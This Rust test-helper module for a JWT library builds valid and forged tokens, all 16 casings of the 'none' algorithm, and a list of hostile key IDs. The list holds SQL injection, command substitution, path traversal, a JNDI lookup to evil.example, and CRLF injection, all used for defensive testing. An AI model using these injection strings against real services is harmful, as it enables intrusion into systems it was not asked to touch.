//! Malformed and forged tokens.

#![allow(dead_code, reason = "each test uses its own part of this")]
#![expect(
    clippy::indexing_slicing,
    clippy::needless_pass_by_value,
    clippy::unwrap_used,
    reason = "indexing makes missing members, and callers pass literals"
)]

use auth_runtime::jwt::{SigningKey, VerifyingKey};
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};

pub(crate) const NOON: u64 = 1_700_000_000;
pub(crate) const ISSUER: &str = "https://issuer.example";
pub(crate) const AUDIENCE: &str = "https://api.example";
const SECRET: [u8; 32] = *b"0123456789-0123456789-0123456789";

pub(crate) fn signing_key() -> SigningKey {
    SigningKey::hs256(SECRET).unwrap().with_kid("k1")
}

pub(crate) fn verifying_key() -> VerifyingKey {
    signing_key().verifying_key()
}

pub(crate) fn header() -> Value {
    json!({ "alg": "HS256", "kid": "k1", "typ": "at+jwt" })
}

/// Claims with which a token is valid at noon, for five minutes.
pub(crate) fn claims() -> Value {
    json!({
        "iss": ISSUER, "aud": AUDIENCE, "sub": "alice", "iat": NOON, "nbf": NOON, "exp": NOON + 300, "jti": "t1",
    })
}

/// An object with other members: `null` takes one away, so that it can be said in a table.
pub(crate) fn with(mut object: Value, changes: &Value) -> Value {
    for (name, value) in changes.as_object().unwrap() {
        if value.is_null() {
            object.as_object_mut().unwrap().remove(name);
        } else {
            object[name] = value.clone();
        }
    }
    object
}

pub(crate) fn encode(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// Signs what is written, valid or not.
pub(crate) fn sign(header: impl ToString, claims: impl ToString) -> String {
    sign_with(&signing_key(), header, claims)
}

pub(crate) fn sign_with(key: &SigningKey, header: impl ToString, claims: impl ToString) -> String {
    let input = format!("{}.{}", encode(header.to_string()), encode(claims.to_string()));
    let signature = key.sign(input.as_bytes()).unwrap();
    format!("{input}.{}", encode(signature))
}

/// A token that is valid at noon.
pub(crate) fn valid() -> String {
    sign(header(), claims())
}

pub(crate) fn with_claims(changes: &Value) -> String {
    sign(header(), with(claims(), changes))
}

pub(crate) fn with_header(changes: &Value) -> String {
    sign(with(header(), changes), claims())
}

/// `none` in all its 16 casings.
pub(crate) fn casings_of_none() -> Vec<String> {
    let upper = |bits: u8, at: usize, letter: char| {
        if bits & (1 << at) == 0 { letter } else { letter.to_ascii_uppercase() }
    };
    (0..16)
        .map(|bits| "none".chars().enumerate().map(|(at, letter)| upper(bits, at, letter)).collect())
        .collect()
}

/// Names of keys that try to be more than names.
pub(crate) fn hostile_names() -> Vec<String> {
    let names = [
        "k2",
        "K1",
        "k1 ",
        " k1",
        "k1\u{0}",
        "\u{0}",
        "../../dev/null",
        "/etc/passwd",
        "..\\..\\x",
        "k1'--",
        "' OR 1=1 --",
        "k1; DROP TABLE keys",
        "$(id)",
        "`id`",
        "%6b1",
        "k1/../k1",
        "?x=y#z",
        "http://127.0.0.1/k1",
        "https://evil.example/k1",
        "file:///dev/null",
        "${jndi:ldap://evil.example/k1}",
        "\r\nX: y",
        "\u{1b}[2J",
        "{\"kid\":\"k1\"}",
        "*",
        "%",
        "_",
        "k\u{131}",
        "\u{202e}1k",
        "k1\n",
        "null",
        "0",
    ];
    names.into_iter().map(str::to_owned).chain(["k".repeat(256)]).collect()
}
